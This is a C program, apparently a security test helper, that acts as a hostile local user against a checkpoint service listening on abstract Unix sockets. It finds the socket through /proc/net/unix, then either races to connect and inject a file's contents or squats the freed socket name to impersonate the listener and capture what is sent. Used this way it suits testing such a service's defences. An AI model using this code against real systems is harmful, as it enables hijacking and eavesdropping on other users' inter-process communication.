/* Another user, who sees in /proc/net/unix where a request for a checkpoint waits.
 *   intruder call PREFIX FILE: is the first to connect, again and again while a process listens there, and says each time what FILE holds.
 *   intruder squat PREFIX FILE: listens under that name as soon as it is free, says what FILE holds, and tells what it gets. */
#include <errno.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static char said[64 << 20];
static size_t length;

static struct sockaddr_un find(const char *prefix, socklen_t *size) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    for (;;) {
        char line[512];
        FILE *names = fopen("/proc/net/unix", "r");
        while (names && fgets(line, sizeof line, names)) {
            char *name = strstr(line, prefix);
            if (!name || name[-1] != '@') continue;
            name[strcspn(name, "\n")] = 0;
            strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
            *size = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
            fclose(names);
            return address;
        }
        if (names) fclose(names);
    }
}

/* Says what the file holds, and reads what there is: how much, and its first bytes. */
static long talk(int fd, char first[9]) {
    static char buffer[1 << 16];
    long got = 0;
    memset(first, 0, 9);
    for (size_t done = 0; done < length;) {
        ssize_t more = send(fd, said + done, length - done, MSG_NOSIGNAL);
        if (more <= 0) break;
        done += more;
    }
    shutdown(fd, SHUT_WR);
    for (ssize_t more; (more = read(fd, buffer, sizeof buffer)) > 0; got += more)
        if (got == 0) memcpy(first, buffer, more < 8 ? more : 8);
    close(fd);
    return got;
}

int main(int count, char **words) {
    if (count != 4) return 2;
    FILE *file = fopen(words[3], "r");
    if (!file) return 3;
    length = fread(said, 1, sizeof said, file);
    socklen_t size;
    struct sockaddr_un address = find(words[2], &size);
    char first[9];
    long calls = 0, got = 0;
    if (!strcmp(words[1], "call")) {
        for (;;) {
            int fd = socket(AF_UNIX, SOCK_STREAM, 0);
            if (fd < 0) break;
            if (connect(fd, (struct sockaddr *)&address, size)) {
                if (calls > 0) break;
                /* No process listens there any more: it was over, or it is an accepted connection that has the name. */
                close(fd);
                address = find(words[2], &size);
                continue;
            }
            if (calls++ == 0) puts("first"), fflush(stdout);
            got += talk(fd, first);
        }
    } else {
        puts("seen"), fflush(stdout);
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        while (bind(fd, (struct sockaddr *)&address, size)) usleep(1000);
        if (listen(fd, 1)) return 4;
        puts("bound"), fflush(stdout);
        int caller = accept(fd, 0, 0);
        if (caller < 0) return 5;
        calls = 1, got = talk(caller, first);
    }
    printf("%ld calls, %ld bytes %s\n", calls, got, first);
    return 0;
}
